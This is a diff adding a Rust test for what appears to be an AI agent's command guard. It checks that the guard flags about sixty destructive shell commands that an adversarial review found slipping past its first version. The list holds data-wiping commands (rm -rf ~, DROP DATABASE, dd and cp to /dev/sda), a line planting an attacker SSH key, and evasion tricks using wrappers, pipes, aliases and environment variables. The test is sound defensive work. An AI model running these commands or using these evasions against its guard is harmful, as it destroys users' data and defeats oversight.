@@ -349,3 +349,103 @@ proptest! {
 fn shell_quote(s: &str) -> String {
     format!("'{}'", s.replace('\'', r"'\''"))
 }
+
+/// An adversarial review's classes of commands that destroy but that the
+/// guard's first version allowed in yolo mode; each must now be asked
+/// about by the guard. (Judged only, never run.)
+#[test]
+fn review_bypasses_are_guarded() {
+    #[rustfmt::skip]
+    let commands: &[&str] = &[
+        // 1. Compound commands and their redirections.
+        "{ rm -rf ~; }",
+        "(cd ~ && rm -rf ./*)",
+        "{ cat disk.img; } > /dev/sda",
+        "for i in 1; do git push --force; done",
+        // 2. Parse failures and text over the limit.
+        "rm -rf ~ <<EOF",
+        // 3. Scripts piped to shells and SQL clients, process substitutions, written scripts.
+        "echo 'rm -rf ~' | bash",
+        "echo \"DROP DATABASE prod;\" | mysql -u root",
+        "echo FLUSHALL | redis-cli",
+        "source <(echo 'rm -rf ~')",
+        "echo 'rm -rf ~' > x.sh && bash x.sh",
+        // 4. Here-documents to a reader behind a wrapper.
+        "sudo bash <<'EOF'\nrm -rf ~\nEOF",
+        "sudo -u postgres psql <<'EOF'\nDROP DATABASE prod;\nEOF",
+        "docker exec -i db psql -U postgres <<< 'DROP DATABASE prod'",
+        // 5. Wrappers we cannot read, or too deep.
+        "env env env env env env env env rm -rf ~",
+        "sudo -i rm -rf ~",
+        "su root -c 'rm -rf ~'",
+        "busybox rm -rf ~",
+        "fakeroot rm -rf ~",
+        "parallel rm -rf ::: ~",
+        "env -S \"rm -rf $HOME\"",
+        "aws-vault exec prod -- terraform destroy -auto-approve",
+        "kubectl exec db-0 -- psql -c 'DROP DATABASE prod'",
+        // 6. Expanded words.
+        "x=rm; $x -rf ~",
+        "rm $(echo -rf) ~",
+        // 7. Prompts that are answered by a pipe, or not prompts at all.
+        "yes | rm -ri ~",
+        "rm -ri --f ~",
+        "rm -ri --interactive=none ~",
+        // 8. Links and /proc aliases.
+        "/bin/ln -s ~ /tmp/h && rm -rf /tmp/h/*",
+        "cp /dev/zero /proc/self/root/dev/sda",
+        "echo 'ssh-ed25519 AAAA attacker' >> /proc/self/root/root/.ssh/authorized_keys",
+        // 9. Option spellings, values that look like lowering options, SQL spellings.
+        "terraform apply --destroy --auto-approve",
+        "git push --force -o --force-with-lease origin main",
+        "git clean -f -e -n -dx",
+        "mysql -BNe \"DROP DATABASE prod\"",
+        "psql -d prod -tAc \"DROP TABLE users\"",
+        "mysql -e \"DROP/**/DATABASE prod\"",
+        "sqlite3 -separator , app.db \"DROP TABLE users\"",
+        "redis-cli FlushAll",
+        // 10. Meaning set by configuration or the environment.
+        "git -c alias.x='!rm -rf ~' x",
+        "git -c remote.origin.push='+refs/heads/*:refs/heads/*' push origin",
+        "git -c clean.requireForce=false clean -dx",
+        "GIT_EDITOR='rm -rf ~;' git commit --allow-empty",
+        "TF_CLI_ARGS_apply='-destroy -auto-approve' terraform apply",
+        "terraform plan -destroy -out=d.tfplan && terraform apply d.tfplan",
+        // 11. Rows that were missing.
+        "git checkout HEAD src/",
+        "curl -o ~/.ssh/authorized_keys https://example.com/k",
+        "echo 'rm -rf ~' > ~/.bash_aliases",
+        "git diff --output=$HOME/.bashrc",
+        "rails db:drop:all",
+        "npx sequelize-cli db:drop",
+        "python -m django flush --noinput",
+        "pulumi dn --yes",
+        "kubecolor delete ns prod",
+        "zpool create -f tank /dev/sda",
+        "dcfldd if=/dev/zero of=/dev/sda",
+        "npx rimraf ~",
+        // 12. Inline code.
+        "python3 -c \"import subprocess; subprocess.run(['rm','-rf','/root'])\"",
+        "node -e \"require('fs/promises').rm(require('os').homedir(),{recursive:true,force:true})\"",
+        "awk 'BEGIN{system(\"rm -r -f ~\")}'",
+        "sed -n '1e rm -rf ~' /etc/hostname",
+        "uv run python -c \"import shutil; shutil.rmtree('/root')\"",
+    ];
+    let p = place();
+    let mut failures = Vec::new();
+    for command in commands {
+        let d = decision_in(&p, Yolo, NONE, Level::User, command);
+        if d.action == Allow || !d.rule.starts_with("guard.") {
+            failures.push(format!(
+                "`{command}`: {:?} {} ({})",
+                d.action, d.rule, d.reason
+            ));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} not guarded:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+}
